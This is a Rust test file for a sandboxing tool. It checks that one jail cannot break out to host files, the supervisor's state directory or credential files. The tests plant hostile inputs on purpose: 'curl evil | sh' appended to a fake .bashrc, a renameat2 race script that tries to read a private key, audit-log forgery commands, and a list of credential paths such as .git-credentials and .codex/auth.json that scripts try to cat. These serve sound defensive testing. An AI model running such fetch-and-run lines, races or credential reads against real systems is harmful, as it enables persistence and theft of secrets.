//! The boundary between a jail and the host's files, attacked from inside
//! one jail for the next: symlinks planted in a writable bind, components
//! swapped while a bind is checked, pseudo filesystems, the supervisor's
//! own state, and credential files no name alone gives away. Each effect
//! is checked from outside: a host file, the state dir.

use std::path::Path;

use super::common::*;

fn text(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_default()
}

/// A stand-in for the caller's home, with a startup file worth changing.
fn fake_home() -> tempfile::TempDir {
    let home = workdir();
    std::fs::write(home.path().join(".bashrc"), "# the user's own\n").expect("write");
    home
}

#[test]
fn a_symlink_planted_by_one_jail_does_not_lead_the_next_into_the_home() {
    let home = fake_home();
    let project = workdir();
    let target = home.path().to_str().expect("utf-8");
    // The first jail, with the project writable, leaves `out -> $HOME`.
    let planted =
        run(jail(project.path()).args(["exec", "--rw", ".", "--", "ln", "-s", target, "out"]));
    assert_ok(&planted);
    assert!(project.path().join("out").is_symlink());
    // The next one is asked for `--rw out` and writes through it.
    let out = run(jail(project.path()).args([
        "exec",
        "--rw",
        "out",
        "--",
        "sh",
        "-c",
        "echo 'curl evil | sh' >> out/.bashrc",
    ]));
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    let message = stderr(&out);
    assert!(message.contains("passes through the symlink"), "{message}");
    assert!(message.contains(target), "names the target: {message}");
    assert!(message.contains("name it directly"), "{message}");
    assert_eq!(text(&home.path().join(".bashrc")), "# the user's own\n");
    // Named directly, the target is the caller's own choice.
    let direct = run(jail(project.path()).args(["exec", "--ro", target, "--", "true"]));
    assert_ok(&direct);
}

#[test]
fn a_symlink_on_the_way_to_a_mount_point_is_not_followed() {
    let home = fake_home();
    let project = workdir();
    let data = workdir();
    std::os::unix::fs::symlink(home.path(), project.path().join("sub")).expect("symlink");
    let dest = project.path().join("sub/planted");
    let spec = format!(
        "{}:{}",
        data.path().display(),
        dest.to_str().expect("utf-8")
    );
    let out = run(jail(project.path()).args(["exec", "--rw", ".", "--ro", &spec, "--", "true"]));
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(stderr(&out).contains("symlink"), "{}", stderr(&out));
    // Following the link would have made the mount point in the home.
    assert!(!home.path().join("planted").exists());
}

/// Swaps two entries of `dir` with renameat2(RENAME_EXCHANGE) in a loop,
/// from inside a jail that has `dir` writable, until killed.
fn start_swapper(dir: &Path, a: &str, b: &str) -> std::process::Child {
    let script = format!(
        "import ctypes, os\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         AT_FDCWD, RENAME_EXCHANGE = -100, 2\n\
         while True:\n    \
             libc.syscall(316, AT_FDCWD, b'{a}', AT_FDCWD, b'{b}', RENAME_EXCHANGE)\n"
    );
    jail(dir)
        .args([
            "exec",
            "--rw",
            ".",
            "--timeout",
            "120",
            "--",
            "python3",
            "-c",
            &script,
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("starting the swapper")
}

#[test]
fn a_component_swapped_for_a_symlink_while_checked_is_never_bound() {
    if !cfg!(target_arch = "x86_64") {
        skip(
            "the race test: the swapper's syscall number is x86_64's",
            false,
        );
        return;
    }
    let home = fake_home();
    let ssh = home.path().join("keys");
    std::fs::create_dir(&ssh).expect("mkdir");
    std::fs::write(ssh.join("id"), "PRIVATE KEY").expect("write");
    let parent = workdir();
    std::fs::create_dir(parent.path().join("d")).expect("mkdir");
    std::fs::write(parent.path().join("d/readme"), "innocent").expect("write");
    std::os::unix::fs::symlink(&ssh, parent.path().join("e")).expect("symlink");
    let mut swapper = start_swapper(parent.path(), "d", "e");
    let elsewhere = workdir();
    let spec = format!("{}/d:/data", parent.path().display());
    let mut read = 0;
    let mut leaked = Vec::new();
    for _ in 0..60 {
        let out = run(jail(elsewhere.path()).args([
            "exec",
            "--ro",
            &spec,
            "--",
            "sh",
            "-c",
            "cat /data/readme /data/id",
        ]));
        let seen = stdout(&out);
        if seen.contains("innocent") {
            read += 1;
        }
        if seen.contains("PRIVATE KEY") {
            leaked.push(stderr(&out));
        }
    }
    let _ = swapper.kill();
    let _ = swapper.wait();
    assert!(leaked.is_empty(), "{} of 60 read the key", leaked.len());
    eprintln!("{read} of 60 runs bound the innocent directory; the rest were refused");
}

#[rstest::rstest]
#[case("/proc", "proc")]
#[case("/proc/self/fd", "proc")]
#[case("/sys", "sysfs")]
#[case("/dev", "devtmpfs")]
fn a_pseudo_filesystem_is_never_bound(#[case] cwd: &str, #[case] fs_type: &str) {
    if fs_type == "devtmpfs" && !Path::new("/dev/null").exists() {
        return;
    }
    let out = run(jail(Path::new(cwd)).args(["exec", "--", "sh", "-c", "ls /proc | wc -l"]));
    assert_eq!(out.status.code(), Some(125), "{cwd}: {}", stdout(&out));
    let message = stderr(&out);
    assert!(
        message.contains("run from, or bind, an ordinary directory")
            || message.contains("exposes its processes"),
        "{cwd}: {message}"
    );
    let elsewhere = workdir();
    let out =
        run(jail(elsewhere.path()).args(["exec", "--ro", &format!("{cwd}:/mnt"), "--", "true"]));
    assert_eq!(out.status.code(), Some(125), "--ro {cwd}");
}

#[test]
fn the_state_dir_is_never_bound_and_is_masked_inside_a_bind() {
    let setup = Setup::new("");
    // The default place, in a home of its own: ~/.local/state/jail.
    let home = fake_home();
    let state = home.path().join(".local/state/jail");
    let jail = || {
        let mut command = setup.jail();
        command.env("JAIL_STATE_DIR", &state);
        command
    };
    // Creates the state dir and the log.
    assert_ok(&run(jail().args(["exec", "--", "true"])));
    let before = text(&state.join("audit.log"));
    assert!(!before.is_empty());
    for flag in ["--ro", "--rw"] {
        for source in [state.clone(), state.join("pending")] {
            let out =
                run(jail().args(["exec", flag, source.to_str().expect("utf-8"), "--", "true"]));
            assert_eq!(out.status.code(), Some(125), "{flag} {}", source.display());
            assert!(stderr(&out).contains("state directory"), "{}", stderr(&out));
        }
    }
    // The home, writable: the state dir inside it is an empty mask.
    let home_path = home.path().to_str().expect("utf-8");
    let out = run(jail().args([
        "exec",
        "--rw",
        home_path,
        "--",
        "sh",
        "-c",
        &format!(
            "cd {home_path}/.local/state/jail; ls -A; echo forged >> audit.log; \
             mkdir pending/x; echo 'curl evil' >> {home_path}/.bashrc; echo done"
        ),
    ]));
    assert_eq!(stdout(&out), "done\n", "{}", stderr(&out));
    // (The session's own lines quote the script, "forged" included.)
    let after = text(&state.join("audit.log"));
    assert!(!after.lines().any(|line| line == "forged"), "{after}");
    assert!(after.starts_with(&before));
    assert!(!state.join("pending/x").exists());
    assert_ok(&run(jail().args(["audit", "verify"])));
    // The rest of the home was writable, as asked.
    assert!(text(&home.path().join(".bashrc")).contains("curl evil"));
    let explained = run(jail().args(["exec", "--rw", home_path, "--explain", "--", "true"]));
    assert!(
        stdout(&explained).contains("masked (jail's state directory)"),
        "{}",
        stdout(&explained)
    );
}

#[test]
fn no_writable_bind_may_hold_the_policy_file() {
    let setup = Setup::new("");
    let dir = setup.dir.path().to_str().expect("utf-8");
    let out = run(setup.jail().args(["exec", "--rw", dir, "--", "true"]));
    assert_eq!(out.status.code(), Some(125));
    assert!(
        stderr(&out).contains("the policy file in use"),
        "{}",
        stderr(&out)
    );
    // Read-only it is harmless.
    let out = run(setup.jail().args([
        "exec",
        "--ro",
        &format!("{dir}/policy.toml:/etc/p.toml"),
        "--",
        "true",
    ]));
    assert_ok(&out);
}

#[test]
fn reviewed_code_does_not_show_where_the_state_dir_is() {
    let setup = Setup::new("");
    let code = setup.file("show.py", "print(open('/proc/self/mountinfo').read())\n");
    let out = run(setup.jail().args(["run", code.to_str().expect("utf-8")]));
    assert_ok(&out);
    let state = setup.state();
    let mountinfo = stdout(&out);
    assert!(mountinfo.contains("/run/jail/code"), "{mountinfo}");
    assert!(
        !mountinfo.contains(state.to_str().expect("utf-8")),
        "{mountinfo}"
    );
}

#[test]
fn a_directory_too_large_to_scan_is_refused_not_half_masked() {
    let setup = Setup::new("[profile.default]\nmask_scan_limit = 1000\n");
    for i in 0..1001 {
        std::fs::write(setup.work.path().join(format!("f{i:05}")), "").expect("write");
    }
    std::fs::write(setup.work.path().join(".env"), "API_TOKEN=hunter2").expect("write");
    let out = setup.sh("cat .env");
    assert_eq!(out.status.code(), Some(125));
    assert!(stderr(&out).contains("mask_scan_limit"), "{}", stderr(&out));
    assert!(!stdout(&out).contains("hunter2"));
}

#[test]
fn twenty_thousand_files_do_not_stop_the_masks() {
    // A large node_modules-like directory, and a secret one level down: a
    // scan that stops counting at 20,000 entries never gets to it.
    let dir = workdir();
    for i in 0..20_001 {
        std::fs::write(dir.path().join(format!("f{i:05}")), "").expect("write");
    }
    std::fs::create_dir(dir.path().join("z")).expect("mkdir");
    std::fs::write(dir.path().join("z/.env"), "API_TOKEN=hunter2").expect("write");
    let out = sh(dir.path(), "cat z/.env; ls | wc -l");
    assert!(!stdout(&out).contains("hunter2"), "{}", stdout(&out));
    assert!(stdout(&out).contains("20002"), "{}", stderr(&out));
}

#[test]
fn credential_files_no_old_pattern_named_are_masked() {
    let dir = workdir();
    let files = [
        ".git-credentials",
        ".config/gh/hosts.yml",
        ".config/gcloud/credentials.db",
        ".config/gcloud/application_default_credentials.json",
        ".vault-token",
        ".pgpass",
        ".bash_history",
        ".zsh_history",
        ".python_history",
        ".node_repl_history",
        "a/b/c/d/.env",
        ".claude/.credentials.json",
        ".codex/auth.json",
        ".cargo/credentials.toml",
        ".gem/credentials",
        ".m2/settings.xml",
        ".terraform.d/credentials.tfrc.json",
        ".config/op/config",
    ];
    for name in files {
        let path = dir.path().join(name);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(&path, "SECRET-VALUE").expect("write");
    }
    std::fs::create_dir_all(dir.path().join(".git")).expect("mkdir");
    std::fs::write(
        dir.path().join(".git/config"),
        "[remote \"origin\"]\n\turl = https://x-access-token:SECRET-VALUE@github.com/o/r\n",
    )
    .expect("write");
    std::fs::create_dir_all(dir.path().join("lib/.git")).expect("mkdir");
    std::fs::write(
        dir.path().join("lib/.git/config"),
        "[remote \"origin\"]\n\turl = https://github.com/o/r\n",
    )
    .expect("write");
    let script = files
        .iter()
        .chain(&[".git/config"])
        .map(|f| format!("cat '{f}' 2>/dev/null;"))
        .collect::<String>()
        + "cat lib/.git/config";
    let out = sh(dir.path(), &script);
    let seen = stdout(&out);
    assert!(!seen.contains("SECRET-VALUE"), "{seen}");
    // An ordinary git config stays readable.
    assert!(seen.contains("https://github.com/o/r"), "{}", stderr(&out));
}
